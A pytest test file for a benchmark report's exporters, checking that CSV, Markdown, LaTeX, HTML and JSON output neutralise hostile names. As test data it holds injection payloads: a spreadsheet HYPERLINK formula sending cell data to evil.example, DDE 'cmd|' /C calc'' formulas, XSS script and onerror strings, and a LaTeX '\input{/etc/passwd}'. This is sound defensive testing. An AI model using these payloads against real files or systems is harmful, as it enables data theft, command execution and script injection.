"""Exports are safe to open: hostile policy, suite, task, checkpoint and protocol names (and
an incompatibility reason) in a real store, through every text exporter.

csv: no cell a spreadsheet would run as a formula (OWASP: ``= + - @``, tab, CR lead), numbers
untouched; markdown: no raw HTML tag, no extra cell, no link; latex: every special escaped;
html: escaped; json: the names as data, exactly.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from test_report import PUSHT, add_run

from vlabench.report import Board, board_from_store, build_board
from vlabench.report.exporters import exporters
from vlabench.report.formats import FORMULA_PREFIXES, csv_safe
from vlabench.store import open_store

POLICY = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
POLICY_2 = "+cmd|' /C calc'!A0"
SUITE = "<img src=x onerror=alert(1)>"
TASK = "<script>alert(2)</script>"
TASK_2 = "@SUM(1+1)*cmd|' /C calc'!A0"
CHECKPOINT = "-2+3+cmd|' /C calc'!A0 <img src=y onerror=alert(5)>"
CKPT_HASH_A = "<script>alert(4)</script>"  # its first 8 characters label the row: <script>
CKPT_HASH_B = "=1+2`x`|y|[a](javascript:alert(6))"
PROTOCOL = {"name": "\tfast <b onmouseover=alert(7)>", "episodes": 4, "max_steps": 100}
REASON = "\rneeds `camera` | <script>alert(8)</script> [click](javascript:alert(9))"
LATEX_NAME = r"\input{/etc/passwd} $x^2$ 50% #1 & {a}_b ~ ^^5c"
NAMES = (POLICY, POLICY_2, SUITE, TASK, TASK_2, CHECKPOINT, CKPT_HASH_A, CKPT_HASH_B, REASON)


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory) -> Board:
    tmp = tmp_path_factory.mktemp("hostile")
    with open_store(f"sqlite:///{tmp / 'hostile.db'}") as s:
        add_run(s, POLICY, SUITE, TASK, PUSHT, "aaaaaa11", "ssff")
        add_run(s, POLICY, SUITE, TASK_2, PUSHT, "aaaaaa11", "sfe")
        add_run(s, POLICY_2, SUITE, TASK, PROTOCOL, "bbbbbb22", "ssss")
        add_run(s, LATEX_NAME, "pusht", "t1", PUSHT, "aaaaaa11", "sf")
        for ckpt_hash, outcomes in ((CKPT_HASH_A, "sssf"), (CKPT_HASH_B, "ffff")):
            add_run(
                s, "smolvla", SUITE, TASK, PUSHT, "aaaaaa11", outcomes,
                checkpoint=CHECKPOINT + outcomes, checkpoint_hash=ckpt_hash,
            )  # fmt: skip
        add_run(s, "random", SUITE, TASK, PUSHT, "aaaaaa11", "", "incompatible", REASON)
        return board_from_store(s, by="task", episodes=True)


def export(board: Board, fmt: str) -> str:
    text = exporters()[fmt].export(board)
    assert isinstance(text, str)
    return text


def test_the_board_really_holds_the_hostile_names(board: Board) -> None:
    policies = {r.policy for r in board.rows}
    assert {POLICY, POLICY_2, "smolvla@<script>"} <= policies
    assert any(SUITE in c.label and TASK in c.label for c in board.columns)
    assert any(c.reason == REASON for c in board.cells)


def test_csv_has_no_live_formula_and_numbers_stay_numbers(board: Board) -> None:
    text = export(board, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(board.cells)  # a CR or newline in a name split no row
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(FORMULA_PREFIXES), (key, value)
    assert {r["policy"] for r in rows} >= {"'" + POLICY, "'" + POLICY_2}
    tasks = {r["task"] for r in rows}
    assert "'" + TASK_2 in tasks and TASK in tasks  # '<' is no formula: left as it is
    assert {r["protocol"] for r in rows} >= {"'" + PROTOCOL["name"]}
    assert "'" + REASON in {r["reason"] for r in rows}
    ok = [r for r in rows if r["status"] == "ok"]
    assert ok and all(re.fullmatch(r"[0-9.]+", r["success_rate"]) for r in ok)
    assert all(r["n"].isdigit() for r in rows)


def test_csv_neutralises_only_strings() -> None:
    for value in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(value) == "'" + value
    for value in ("a=1", "<b>", "", "'=already"):
        assert csv_safe(value) == value
    for number in (-0.5, -3, 0.25, True, None):
        assert csv_safe(number) is number


def test_csv_metric_cells_keep_negative_numbers_numeric() -> None:
    runs = [
        {"id": 1, "policy": POLICY, "suite": "dataset", "task": "-tiny", "protocol_hash": "h",
         "protocol": {"name": "=p"}, "status": "finished", "n": 2, "successes": 0,
         "errors": 0, "report_meta": {"metrics": [{"name": "-reward", "lower_is_better": False}]}},
    ]  # fmt: skip
    board = build_board(runs, by="task", metric_values={1: {"-reward": [-0.5, -0.25]}})
    rows = list(csv.DictReader(io.StringIO(export(board, "csv"))))
    (row,) = rows
    assert row["metric"] == "'-reward" and row["task"] == "'-tiny" and row["policy"] == "'" + POLICY
    assert row["value"] == "-0.375"  # a number: no quote


def test_markdown_has_no_raw_html_no_link_and_no_extra_cell(board: Board) -> None:
    text = export(board, "md")
    lower = text.lower()
    for tag in ("<script", "<img", "<b ", "</script"):
        assert tag not in lower
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert not re.search(r"(?<!\\)\]\(", text) and "\\](javascript" in text  # no link
    assert "\\`camera\\`" in text  # no code span
    table = [line for line in text.splitlines() if line.startswith("|")]
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table}
    assert len(widths) == 1, widths  # every row has as many cells as the header
    assert len(table) == 2 + len(board.rows)  # no row was split by a newline or CR


def test_latex_escapes_every_name(board: Board) -> None:
    text = export(board, "latex")
    body = text.split(r"\midrule", 1)[1]
    assert r"\input" not in text and "^^5c" not in text and "<script>" not in text
    escaped = r"\textbackslash{}input\{/etc/passwd\} \$x\textasciicircum{}2\$ 50\% \#1 \& \{a\}\_b"
    assert escaped in body
    assert r"\textless{}script\textgreater{}" in text
    # outside our own commands, no unescaped special character is left in the names
    for line in body.splitlines():
        if line.startswith(("\\bottomrule", "\\end", "\\caption", "\\label")):
            continue
        stripped = re.sub(
            r"\\(textbf|textit|scriptsize|textless|textgreater|textbar|"
            r"textbackslash|textasciitilde|textasciicircum)\{?\}?",
            "",
            line,
        )
        stripped = re.sub(r"\\[&%$#_{}]", "", stripped).replace("\\\\", "")
        assert not re.search(r"[\\$#%^~]", stripped), line


def test_html_escapes_every_name(board: Board) -> None:
    text = export(board, "html")
    assert "<script>alert" not in text and "<img src=" not in text and "<b onmouseover" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text or "\\u003cimg src=x" in text
    assert text.count("<script") == 2  # the JSON data block and the page's own script
    assert "&lt;img src=y onerror=alert(5)&gt;" in text  # the checkpoint, in a row's title


def test_json_keeps_the_names_as_data(board: Board, tmp_path: Path) -> None:
    data = json.loads(export(board, "json"))
    assert {r["policy"] for r in data["rows"]} >= {POLICY, POLICY_2}
    assert {r["checkpoint_hash"] for r in data["rows"]} >= {CKPT_HASH_A, CKPT_HASH_B}
    assert {r["checkpoint"] for r in data["rows"]} >= {CHECKPOINT + "sssf", CHECKPOINT + "ffff"}
    assert {c["task"] for c in data["cells"]} >= {TASK, TASK_2}
    assert REASON in {c["reason"] for c in data["cells"]}
    text = json.dumps(data)
    assert all(json.dumps(name)[1:-1] in text for name in NAMES)
